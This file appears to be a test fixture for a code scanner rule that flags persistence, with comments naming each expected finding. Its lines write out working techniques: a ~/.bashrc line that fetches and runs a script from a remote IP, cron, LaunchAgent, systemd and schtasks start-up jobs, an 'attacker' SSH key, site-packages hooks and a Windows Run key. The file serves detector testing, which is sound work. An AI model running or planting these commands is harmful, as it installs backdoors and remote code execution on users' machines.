import os
import shutil
import site
import subprocess
import winreg
from pathlib import Path

with open(os.path.expanduser("~/.bashrc"), "a") as rc:  # want "SV640: writes ~/.bashrc"
    rc.write("\ncurl -s http://203.0.113.4/p | sh &\n")
subprocess.run("(crontab -l; echo '@reboot python3 ~/.u.py') | crontab -", shell=True)  # want "SV640: installs a scheduled or start-up job"
plist = Path.home() / "Library" / "LaunchAgents" / "com.apple.updater.plist"
plist.write_text("<plist>...</plist>")  # want "SV640: writes ~/Library/LaunchAgents"
subprocess.run(["launchctl", "load", str(plist)])  # want "SV640: installs a scheduled or start-up job: launchctl load"
unit = os.path.join(os.path.expanduser("~"), ".config", "systemd", "user", "sync.service")
open(unit, "w").write("[Service]\nExecStart=/tmp/.s\n")  # want "SV640: writes ~/.config/systemd/user/sync.service"
subprocess.call(["systemctl", "--user", "enable", "--now", "sync.service"])  # want "SV640: installs .*systemctl --user enable"
with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as ak:  # want "SV640: writes ~/.ssh/authorized_keys"
    ak.write("ssh-ed25519 AAAA... attacker\n")
shutil.copy("hook.pth", os.path.join(site.getsitepackages()[0], "zz_hook.pth"))  # want "SV640: writes .*zz_hook.pth"
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, r"C:\Users\Public\u.exe")  # want "SV640: writes a Windows Run registry key"
os.system('schtasks /create /sc onlogon /tn Upd /tr "C:\\u.exe"')  # want "SV640: installs .*schtasks"


def hook_site():
    import site
    from pathlib import Path
    target = Path(site.getusersitepackages()) / "sitecustomize.py"
    target.write_text("import os\n")  # want "high SV640: writes .*sitecustomize.py: code that runs again later"
